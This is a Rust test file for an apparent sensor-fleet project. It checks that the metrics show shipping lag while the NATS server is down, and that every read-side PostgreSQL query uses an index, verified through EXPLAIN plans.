/// A CA and a server certificate for 127.0.0.1, made here (rcgen), as PEM files in
/// `dir`: `ca.pem`, `server.pem`, `server-key.pem`.
/// The shipper's progress on the metrics page: caught up, then a lag that is
/// exactly what NATS has not acknowledged while it is away.
#[test]
fn the_sensor_reports_what_it_has_not_shipped_in_its_metrics() {
    use util::{metric, promtool_check, scrape};
    let pg = Postgres::start();
    let mut nats = Nats::start();
    let _collector = Collector::start(&nats.url(), &pg.url());
    let sensor = Sensor::start_with(&format!(
        "metrics = \"127.0.0.1:0\"\n{}",
        fleet_config(&nats)
    ));
    let page = || scrape(sensor.metrics.unwrap(), "/metrics").1;
    visit(&sensor, 1);
    let n1 = events_when_closed(&sensor, 1) as u64;
    wait_until("everything shipped", || {
        let body = page();
        metric(&body, "busybait_fleet_shipped_seq") == Some(n1)
            && metric(&body, "busybait_fleet_lag_events") == Some(0)
            && metric(&body, "busybait_fleet_published_total") == Some(n1)
    });
    let body = page();
    promtool_check(&body);
    assert_eq!(metric(&body, "busybait_fleet_published_total"), Some(n1));
    nats.kill();
    visit(&sensor, 2);
    let n2 = events_when_closed(&sensor, 2) as u64;
    wait_until("the lag while NATS is away", || {
        let body = page();
        metric(&body, "busybait_fleet_lag_events") == Some(n2 - n1)
            && metric(&body, "busybait_fleet_failures_total").is_some_and(|f| f > 0)
    });
    assert_eq!(metric(&page(), "busybait_fleet_shipped_seq"), Some(n1));
    nats.restart();
    wait_until("caught up again", || {
        metric(&page(), "busybait_fleet_lag_events") == Some(0)
    });
}

/// A fleet store that has PostgreSQL explain every statement before answering it.
struct Explaining {
    store: busybait_fleet::pg::read::PgStore,
    plans: std::cell::RefCell<Vec<(String, Vec<String>)>>,
}

impl busybait_store::sql::Sql for Explaining {
    fn dialect(&self) -> busybait_store::sql::Dialect {
        busybait_store::sql::Dialect::Postgres
    }

    fn each_row(
        &self,
        sql: &str,
        params: &[busybait_store::sql::Param<'_>],
        row: &mut dyn FnMut(&[busybait_store::sql::Cell]) -> Result<(), busybait_store::StoreError>,
    ) -> Result<(), busybait_store::StoreError> {
        let mut plan = Vec::new();
        self.store
            .each_row(&format!("EXPLAIN {sql}"), params, &mut |r| {
                if let Some(busybait_store::sql::Cell::Text(line)) = r.first() {
                    plan.push(line.trim().to_string());
                }
                Ok(())
            })?;
        self.plans.borrow_mut().push((sql.to_string(), plan));
        self.store.each_row(sql, params, row)
    }
}

/// The fleet store's side of `crates/store/src/query_plans.rs`: every question the
/// read side asks goes through an index. With sequential scans priced out of reach
/// (`enable_seqscan = off`) PostgreSQL takes any index that serves; a plan that still
/// reads a table whole has none (an empty table would be scanned whole anyway).
#[test]
fn every_read_side_query_on_the_fleet_store_goes_through_an_index() {
    use busybait_store::sql::Sql as _;
    let pg = Postgres::start();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let mut client = busybait_fleet::pg::connect(&pg.url()).await.unwrap();
        busybait_fleet::pg::schema::migrate(&mut client)
            .await
            .unwrap();
        busybait_fleet::pg::schema::ensure_month(&mut client, "2026-12")
            .await
            .unwrap();
    });
    drop(runtime);
    let joiner = if pg.url().contains('?') { '&' } else { '?' };
    let url = format!("{}{joiner}options=-c%20enable_seqscan%3Doff", pg.url());
    let db = Explaining {
        store: busybait_fleet::pg::read::PgStore::open(&url).unwrap(),
        plans: std::cell::RefCell::new(Vec::new()),
    };
    let mut setting = Vec::new();
    db.store
        .each_row("SHOW enable_seqscan", &[], &mut |r| {
            setting.push(format!("{:?}", r.first()));
            Ok(())
        })
        .unwrap();
    assert_eq!(setting, ["Some(Text(\"off\"))"]);
    busybait_store::questions::ask_every_question(&db).unwrap();
    // One row a sensor, or a sensor and day: read whole by design.
    let small = ["sensors", "daily", "busybait_schema"];
    let plans = db.plans.borrow();
    assert!(plans.len() > 30, "{}", plans.len());
    let bad: Vec<String> = plans
        .iter()
        .filter(|(_, plan)| {
            plan.iter().any(|line| {
                line.split_once("Seq Scan on ")
                    .and_then(|(_, rest)| rest.split_whitespace().next())
                    .is_some_and(|table| !small.contains(&table))
            })
        })
        .map(|(sql, plan)| format!("{sql}\n  -> {}", plan.join("\n     ")))
        .collect();
    assert!(
        bad.is_empty(),
        "queries without an index:\n{}",
        bad.join("\n\n")
    );
}
